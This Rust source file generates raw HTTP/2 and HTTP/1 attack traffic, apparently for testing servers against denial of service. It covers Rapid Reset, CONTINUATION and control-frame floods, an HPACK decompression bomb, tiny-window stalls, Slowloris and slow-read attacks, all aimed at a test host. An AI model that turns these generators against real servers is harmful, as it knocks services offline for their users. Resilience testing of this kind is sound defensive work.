//! What offenders do.

use std::time::Duration;

use clap::ValueEnum;

use super::frames::{
    CONTINUATION, DATA, END, FIRST, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WHOLE,
    WINDOW_UPDATE, field, frame, remembered, request, setting,
};

/// Between the bytes of somebody slow.
pub const DRIP: Duration = Duration::from_millis(500);

/// Frames of a flood that are sent at once.
const BATCH: u32 = 100;

/// SETTINGS_INITIAL_WINDOW_SIZE.
const WINDOW: u16 = 4;

/// What an offender does.
#[derive(Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Kind {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// A field block without end (CVE-2024-27316).
    Continuation,
    /// PING.
    Pings,
    /// SETTINGS, each of which wants an answer.
    Settings,
    /// Empty DATA frames (RUSTSEC-2026-0258).
    EmptyData,
    /// PRIORITY.
    Priorities,
    /// WINDOW_UPDATE by one.
    WindowUpdates,
    /// A small block that unpacks into much (CVE-2026-47774).
    HpackBomb,
    /// A hundred large answers with windows of one byte, none of which is read.
    TinyWindows,
    /// Heads of HTTP/1 that come byte by byte, on 200 connections.
    Slowloris,
    /// Large answers over HTTP/1 that are not read, on 50 connections.
    SlowRead,
}

/// How it goes on.
pub enum Manner {
    /// As fast as it is taken.
    Flood,
    /// A little now and then, reading nothing.
    Slow,
}

impl Kind {
    /// How many connections at once.
    pub fn at_once(self) -> usize {
        match self {
            Self::Slowloris => 200,
            Self::SlowRead => 50,
            _ => 1,
        }
    }

    /// How it goes on.
    pub fn manner(self) -> Manner {
        match self {
            Self::TinyWindows | Self::Slowloris | Self::SlowRead => Manner::Slow,
            _ => Manner::Flood,
        }
    }

    /// The bytes of a turn, and how many frames (or pieces) they are; nothing when all is said.
    pub fn turn(self, turn: u32) -> Option<(Vec<u8>, u64)> {
        match self {
            Self::Slowloris => Some(slowloris(turn)),
            Self::SlowRead => (turn == 0).then(|| (http1("/256k").repeat(8), 1)),
            _ if turn == 0 => Some((self.greeting(), 1)),
            Self::TinyWindows => (turn == 1).then(|| {
                let block = request("GET", "/256k");
                let streams = (0..100).map(|n| 2 * n + 1);
                (streams.flat_map(|id| frame(HEADERS, END | WHOLE, id, &block)).collect(), 100)
            }),
            _ => Some(self.batch(turn)),
        }
    }

    fn greeting(self) -> Vec<u8> {
        let settings = if self == Self::TinyWindows { setting(WINDOW, 1) } else { Vec::new() };
        let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &settings)].concat();
        match self {
            Self::Continuation => bytes.extend(frame(HEADERS, END, 1, &request("GET", "/s"))),
            Self::EmptyData => bytes.extend(frame(HEADERS, WHOLE, 1, &request("POST", "/s"))),
            _ => {}
        }
        bytes
    }

    /// Frames of a flood.
    fn batch(self, turn: u32) -> (Vec<u8>, u64) {
        let first = (turn - 1) * BATCH;
        match self {
            Self::HpackBomb => {
                let mut block = request("GET", "/s");
                // What is remembered once is meant again with each byte.
                block.extend(remembered("cookie", &[b'c'; 3_900]));
                block.extend([FIRST; 12_000]);
                return (frame(HEADERS, END | WHOLE, 2 * turn - 1, &block), 1);
            }
            Self::Continuation => {
                let block = field("x-a", &[b'a'; 100]);
                return (frame(CONTINUATION, 0, 1, &block).repeat(BATCH as usize), u64::from(BATCH));
            }
            _ => {}
        }
        let frames = (first..first + BATCH).flat_map(|n| {
            let stream = 2 * n + 1;
            match self {
                Self::RapidReset => [
                    frame(HEADERS, END | WHOLE, stream, &request("GET", "/s")),
                    frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()),
                ]
                .concat(),
                Self::Pings => frame(PING, 0, 0, b"are you?"),
                Self::Settings => frame(SETTINGS, 0, 0, &setting(WINDOW, 65_535)),
                Self::EmptyData => frame(DATA, 0, 1, b""),
                Self::Priorities => frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16]),
                _ => frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
            }
        });
        let count = if self == Self::RapidReset { 2 * BATCH } else { BATCH };
        (frames.collect(), u64::from(count))
    }
}

/// A head whose next byte always comes.
fn slowloris(turn: u32) -> (Vec<u8>, u64) {
    match turn {
        0 => (b"GET /s HTTP/1.1\r\nHost: bench.test\r\nX-A: ".to_vec(), 1),
        _ => (b"a".to_vec(), 1),
    }
}

fn http1(path: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.1\r\nHost: bench.test\r\n\r\n").into_bytes()
}
